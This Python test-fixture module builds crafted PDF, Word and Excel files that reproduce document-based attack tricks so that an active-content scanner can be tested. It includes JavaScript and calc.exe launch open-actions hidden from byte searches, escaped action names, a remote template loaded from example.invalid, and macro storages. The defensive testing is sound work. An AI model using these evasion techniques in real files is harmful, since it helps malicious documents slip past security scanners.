"""Files crafted the way the attacks of issue 16 were: valid documents whose active parts hide from byte searches.

Also a tiny writer of OLE compound files (the .doc/.xls container), enough for test files: streams of at least
4096 bytes (no mini stream), one FAT sector, storages nested any depth.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

SECTOR = 512
FREE, END, FAT_SECTOR = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
NOSTREAM = 0xFFFFFFFF


def _pdf(objects: list[bytes], *, root: int = 1) -> bytes:
    """A PDF with a correct cross-reference table from numbered object bodies (1-based)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


PAGE_OBJECTS = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
]


def pdf_plain() -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS])


def pdf_open_action_after_fake_stream() -> bytes:
    """JavaScript run on opening, after a string literal holding a fake ``stream`` keyword: a byte scanner that
    skips "streams" skips the action too."""
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /Title (decoy\nstream\n) "
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    )
    return _pdf([catalog, *PAGE_OBJECTS])


def pdf_open_action_in_object_stream() -> bytes:
    """The catalog with its open action lives in a compressed object stream whose dictionary has a key with "obj"
    in it, so a scanner looking back for "obj" to find the stream's dictionary gets it wrong."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>"
    header = b"1 0 "
    packed = zlib.compress(header + catalog)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d /Xobj true >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = {}
    for number, body in ((2, PAGE_OBJECTS[0]), (3, PAGE_OBJECTS[1]), (4, objstm)):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    # A cross-reference stream: object 1 is compressed in object stream 4 at index 0.
    rows = [b"\x00\x00\x00\x00\xff\xff", b"\x02\x00\x00\x04\x00\x00"]
    rows += [b"\x01" + struct.pack(">I", offsets[n])[1:] + b"\x00\x00" for n in (2, 3, 4)]
    rows.append(b"\x01" + struct.pack(">I", out.tell())[1:] + b"\x00\x00")
    data = zlib.compress(b"".join(rows))
    xref_offset = out.tell()
    out.write(
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 3 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return out.getvalue()


def pdf_open_action_uri() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://example.invalid/) >> >>"
    return _pdf([catalog, *PAGE_OBJECTS])


def pdf_escaped_name_javascript() -> bytes:
    """``/J#61vaScript`` is /JavaScript once the name is read."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (1) >> >>"
    return _pdf([catalog, *PAGE_OBJECTS])


def pdf_open_at_page() -> bytes:
    """An open action that only shows a page (an array): harmless, accepted."""
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", *PAGE_OBJECTS])


def pdf_link_annotation() -> bytes:
    """A clickable web link on the page (the reader asks before following it): accepted."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org/) >> >>"
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_OBJECTS[0], page, link])


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b'<Override PartName="/word/settings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
    b"</Types>"
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>B\xc3\xa1o c\xc3\xa1o</w:t></w:r></w:p></w:body></w:document>"
)
SETTINGS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<w:attachedTemplate r:id="rId1"/></w:settings>'
)


def _settings_rels(target_mode: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://example.invalid/template.dotm" ' + target_mode + b"/></Relationships>"
    )


def _docx(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_plain() -> bytes:
    return _docx({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "word/document.xml": DOCUMENT})


def docx_remote_template(target_mode: bytes) -> bytes:
    """A Word file that loads a template from the web when opened (``target_mode`` written in some odd way)."""
    return _docx(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": ROOT_RELS,
            "word/document.xml": DOCUMENT,
            "word/settings.xml": SETTINGS,
            "word/_rels/settings.xml.rels": _settings_rels(target_mode),
        }
    )


# --- OLE compound files -------------------------------------------------------------------------------------------


def _entry(name: str, kind: int, *, child=NOSTREAM, right=NOSTREAM, start=END, size=0) -> bytes:
    encoded = name.encode("utf-16-le") + b"\x00\x00"
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBB", len(encoded), kind, 1)  # name length, type, colour black
        + struct.pack("<III", NOSTREAM, right, child)  # left, right, child
        + b"\x00" * 16  # CLSID
        + b"\x00" * 4  # state bits
        + b"\x00" * 16  # times
        + struct.pack("<IQ", start, size)
    )


def _ole_entries(tree: dict) -> list[dict]:
    entries: list[dict] = [{"name": "Root Entry", "kind": 5, "children": []}]

    def add(parent: int, items: dict) -> None:
        for name, value in items.items():
            index = len(entries)
            entries.append({"name": name, "kind": 1 if isinstance(value, dict) else 2, "children": [], "data": value})
            entries[parent]["children"].append(index)
            if isinstance(value, dict):
                add(index, value)

    add(0, tree)
    return entries


def _ole_streams(entries: list[dict]) -> list[bytes]:
    """Each stream's sectors, in order; records each stream's first sector and size on its entry."""
    sectors: list[bytes] = []
    for entry in entries:
        if entry["kind"] != 2:
            continue
        payload = entry["data"].ljust(4096, b"\x00")
        entry["start"], entry["size"] = len(sectors), len(payload)
        payload = payload.ljust(-(-len(payload) // SECTOR) * SECTOR, b"\x00")
        sectors += [payload[i : i + SECTOR] for i in range(0, len(payload), SECTOR)]
    return sectors


def _ole_directory(entries: list[dict]) -> list[bytes]:
    # Siblings chained through "right" links (a degenerate but valid red-black tree of black nodes).
    right_of = {}
    for entry in entries:
        for position, index in enumerate(entry["children"]):
            following = entry["children"][position + 1 : position + 2]
            right_of[index] = following[0] if following else NOSTREAM
    directory = b"".join(
        _entry(
            entry["name"],
            entry["kind"],
            child=entry["children"][0] if entry["children"] else NOSTREAM,
            right=right_of.get(index, NOSTREAM),
            start=entry.get("start", END),
            size=entry.get("size", 0),
        )
        for index, entry in enumerate(entries)
    )
    directory = directory.ljust(-(-len(directory) // SECTOR) * SECTOR, b"\x00")
    return [directory[i : i + SECTOR] for i in range(0, len(directory), SECTOR)]


def _chain(fat: list[int], first: int, count: int) -> None:
    for i in range(count):
        fat[first + i] = first + i + 1 if i + 1 < count else END


def ole_file(tree: dict) -> bytes:
    """An OLE compound file; ``tree`` maps names to bytes (streams, ≥ 4096 bytes each) or dicts (storages)."""
    entries = _ole_entries(tree)
    data_sectors = _ole_streams(entries)
    dir_sectors = _ole_directory(entries)
    first_dir = len(data_sectors)
    fat_index = first_dir + len(dir_sectors)
    fat = [FREE] * (SECTOR // 4)
    for entry in entries:
        if entry["kind"] == 2:
            _chain(fat, entry["start"], -(-entry["size"] // SECTOR))
    _chain(fat, first_dir, len(dir_sectors))
    fat[fat_index] = FAT_SECTOR
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, first_dir, 0, 4096, END, 0, END, 0)
        + struct.pack("<109I", fat_index, *([FREE] * 108))
    )
    return header + b"".join(data_sectors) + b"".join(dir_sectors) + struct.pack("<128I", *fat)


def doc_plain() -> bytes:
    return ole_file({"WordDocument": b"\xec\xa5" + b"\x00" * 5000, "1Table": b"\x00" * 4096})


def doc_with_macros() -> bytes:
    return ole_file(
        {
            "WordDocument": b"\xec\xa5" + b"\x00" * 5000,
            "Macros": {"VBA": {"dir": b"\x01" * 4096, "ThisDocument": b"Attribute VB_Name".ljust(4096, b"\x00")}},
        }
    )


def xls_plain() -> bytes:
    return ole_file({"Workbook": b"\x09\x08" + b"\x00" * 5000})


def xls_with_embedded_object() -> bytes:
    return ole_file({"Workbook": b"\x09\x08" + b"\x00" * 5000, "MBD00000001": {"\x01Ole10Native": b"\x00" * 4096}})
